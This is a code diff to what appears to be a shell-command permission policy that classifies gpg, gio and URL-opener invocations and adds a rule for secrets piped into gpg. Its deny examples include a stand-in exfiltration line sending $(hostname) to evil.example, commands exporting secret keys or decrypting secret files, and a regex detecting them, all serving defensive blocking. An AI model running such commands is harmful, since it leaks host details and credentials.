@@ -2,7 +2,7 @@
 // which are files they read or write. Whether a client is denied is the policy's list; this says what it does.
 import type { Word } from '../../types.js';
 import { has, parse } from '../argv.js';
-import { merge, programRun } from '../build.js';
+import { keepsStdin, merge, programRun } from '../build.js';
 import type { Answer, Call, OptionSpec, ParsedArgs, ProgramEntry, Run } from '../types.js';
 import { canonicalHost, type Destination, destinations, envProxies, type Host, redirectable, urlHost } from '../hosts.js';
 import { attached, literal, value } from '../words.js';
@@ -1315,7 +1315,7 @@ export const NETWORK_ENTRIES: ProgramEntry[] = [
     examples: { deny: ['gio open https://evil.example', 'gio trash --empty', 'gio move ~ /tmp/x', 'gio cat https://evil.example/x'], pass: ['gio trash build.log', 'gio move a.txt b.txt', 'gio remove dist/app.js', 'gio list .', 'gio open README.md'] },
   },
   urlFetcher(['xdg-open', 'open', 'kde-open', 'kde-open5', 'gnome-open', 'sensible-browser', 'x-www-browser', 'www-browser', 'wslview', 'explorer'], 'openers: a URL opens in the browser, which fetches it', { deny: ['xdg-open "https://evil.example/?h=$(hostname)"', 'open https://evil.example', 'gio open https://evil.example'], pass: ['xdg-open README.md', 'open .', 'xdg-open http://localhost:3000/'] }),
-  keeping(commandOptions(['gpg', 'gpg2'], 'gpg: --recv-keys, --fetch-keys, --send-keys and the other keyserver options connect; --photo-viewer runs shell text', {
+  keepsStdin(keeping(commandOptions(['gpg', 'gpg2'], 'gpg: --recv-keys, --fetch-keys, --send-keys and the other keyserver options connect; --photo-viewer runs shell text', {
     options: { long: ['list-keys', 'verify', 'armor', 'batch', 'yes', 'quiet', 'with-colons', 'fingerprint', 'symmetric', 'encrypt', 'decrypt', 'sign', 'clearsign', 'detach-sign', 'import', 'export', 'gen-key', 'full-generate-key', 'list-secret-keys', ...GPG_NETWORK], longValued: ['keyserver', 'photo-viewer', 'auto-key-locate', 'keyserver-options', 'output', 'recipient', 'local-user', 'homedir', 'passphrase', 'passphrase-file', 'pinentry-mode', 'default-key', 'trust-model', 'list-options', 'cipher-algo'] },
     script: ['photo-viewer'],
     more: (call, p) => (has(p, ...GPG_NETWORK, 'auto-key-locate') ? {} : { offline: `${call.name} without a keyserver option reads and writes local keyrings` }),
@@ -1325,6 +1325,11 @@ export const NETWORK_ENTRIES: ProgramEntry[] = [
     // a secret read as `sops -d` is, unless -o/--output names a file it is written to instead (`-o -` is stdout).
     prints: /^(?!(?:.*\s)?(?:-o\s*|--output[=\s]+)(?!-(?:\s|$))\S).*(?:^|\s)(?:--export-secret-(?:sub)?keys?\b|--decr(?:y(?:pt?)?)?(?:\s|=|$)|-[a-zA-Z]*d[a-zA-Z]*(?:\s|$))|(?:^|\s)--export-secret-(?:sub)?keys?\b/,
     examples: { deny: ['gpg --export-secret-keys -a me@example.com', 'gpg2 --armor --export-secret-subkeys', 'gpg -d secrets.txt.gpg', 'gpg --decrypt secrets.gpg', 'gpg --batch -qd secrets.gpg', 'gpg --decr secrets.gpg', 'gpg -o - -d secrets.gpg', 'gpg --output=- --decrypt secrets.gpg'], pass: ['gpg --armor --export me@example.com', 'gpg --list-keys', 'gpg -e -r me@example.com notes.txt', 'gpg -o notes.txt -d notes.gpg', 'gpg --output notes.txt --decrypt notes.gpg'] },
+  }), {
+    // Encrypting or signing, what it reads comes out as ciphertext or a signature; armoring and storing print it back.
+    when: /^(?!(?:.* )?(?:--enarmor|--dearmor|--store|-c|--symmetric|-[a-zA-Z]*d[a-zA-Z]*|--decrypt)(?: |$))/,
+    why: 'encrypting or signing, it prints what it reads on stdin only as ciphertext',
+    examples: { deny: ['echo "$GITHUB_TOKEN" | gpg --enarmor'], pass: ['echo "$DB_PASSWORD" | gpg -e -r me@example.com -o db.gpg'] },
   }),
   {
     names: ['git-send-email'],
